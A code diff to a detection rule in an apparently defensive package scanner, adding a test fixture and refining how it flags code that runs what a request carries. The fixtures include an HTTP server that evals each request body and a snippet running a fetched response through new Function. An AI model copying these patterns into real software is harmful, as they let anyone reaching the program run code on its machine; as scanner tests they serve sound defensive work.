@@ -52,6 +52,14 @@ export const remoteCode: Rule = {
               "axios.get('https://json.invalid/x').catch(error => new Function('require', error.response.data)(require))\n",
           },
         },
+        {
+          title: 'a server runs what it is sent',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"index.js"}',
+            'index.js':
+              "require('http').createServer((message, answer) => {\n  message.on('data', part => answer.end(String(eval(part.toString()))))\n}).listen(8080)\n",
+          },
+        },
       ],
       passes: [
         {
@@ -112,7 +120,9 @@ function isComputed(command: string): boolean {
 
 /** Code that a request to this program carries. A timer that gets a function is no evaluation. */
 function isRequested({ source, sink }: Flow): boolean {
-  if (source.kind !== 'caller' || !/^(?:req|request)$/i.test(source.name)) return false
+  const fromCaller = source.kind === 'caller' || source.kind === 'caller-secret'
+  // `request cookie` is the header of that name, `request to a server` what a server of the package's own gets.
+  if (!fromCaller || !/^(?:req|request)(?: |$)/i.test(source.name)) return false
   if (sink.kind === 'evaluate') return !/set(?:Timeout|Interval|Immediate)|nextTick/.test(sink.api)
   return sink.kind === 'command' && sink.role === 'command' && sink.destinations.every(isComputed)
 }
@@ -125,7 +135,7 @@ function isNamesake({ host, kind }: Place, { name, lists }: Context): boolean {
 }
 
 function weigh(flow: Flow, place: Place, namesake: boolean): Action | undefined {
-  if (flow.source.kind === 'caller') return flow.certain ? 'block' : 'ask'
+  if (isRequested(flow)) return flow.certain ? 'block' : 'ask'
   if (place.kind === 'local') return undefined
   // A page's loader compiles the scripts the page names; their addresses stand in no package.
   if (flow.sink.api.startsWith('script.') && place.kind === 'unknown') return 'note'
@@ -138,7 +148,7 @@ function weigh(flow: Flow, place: Place, namesake: boolean): Action | undefined 
 function say(group: SightingGroup): string {
   const [{ flow, place, action }] = group
   const { api } = flow.sink
-  if (flow.source.kind === 'caller') {
+  if (isRequested(flow)) {
     return (
       `${opening(flow)} runs what a request carries (${api})${guardsInWords(flow.guards)}. ` +
       'Anybody who can reach that program can run code on its machine. Do not install it.'
